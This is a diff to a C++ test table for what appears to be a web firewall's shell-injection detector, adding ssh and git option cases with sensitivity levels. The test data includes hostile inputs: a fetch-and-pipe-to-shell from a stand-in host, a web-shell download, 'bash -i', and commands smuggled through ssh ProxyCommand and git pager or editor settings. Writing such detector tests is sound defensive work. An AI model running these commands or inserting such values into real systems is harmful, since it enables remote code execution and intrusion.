@@ -7,7 +7,7 @@
 
 #include "detect/analyze/shell/shell_lexer.h"
 #include "detect/analyze/shell/shell_matcher.h"
-#include "detect/core/octets.h"
+#include "detect/core/bytes.h"
 #include "tests/detect/analyze/analyze_support.h"
 
 namespace wafd::detect {
@@ -418,7 +418,17 @@ constexpr Placed kLookalikes[] = {
     {kBody, "cmdline", "127.0.0.1;cat config.php", "balanced"},
     {kBody, "commandline", "curl evil.example|sh", "low"},
     {kQuery, "v", "tar -xzf vs tar -xvf", "balanced"},
-    {kQuery, "v", "ssh -L port forwarding", "balanced"},
+    {kQuery, "v", "ssh -L port forwarding", "strict"},
+    {kQuery, "v", "ssh -o StrictHostKeyChecking=no host", "strict"},
+    {kBody, "v", "ssh -p 22 -i key user@host", "strict"},
+    {kQuery, "v", "ssh -o StrictHostKeyChecking=no host id", "balanced"},
+    {kBody, "v", "ssh -oProxyCommand=id host", "balanced"},
+    {kBody, "v", "ssh -o ProxyCommand=id host", "balanced"},
+    {kQuery, "v", "git -c core.editor=vim commit", "strict"},
+    {kQuery, "v", "git -c core.pager=less log", "strict"},
+    {kQuery, "v", "git -c core.editor=id commit", "balanced"},
+    {kQuery, "v", "git -c core.pager='less;id' log", "balanced"},
+    {kQuery, "v", "git -c core.sshcommand=vim fetch", "balanced"},
     {kQuery, "v", "tar -xzf a.tgz -C /tmp", "balanced"},
     {kQuery, "v", "curl http://evil.example/x -o /var/www/x.php vs", "balanced"},
     {kQuery, "v", "bash -i vs", "balanced"},
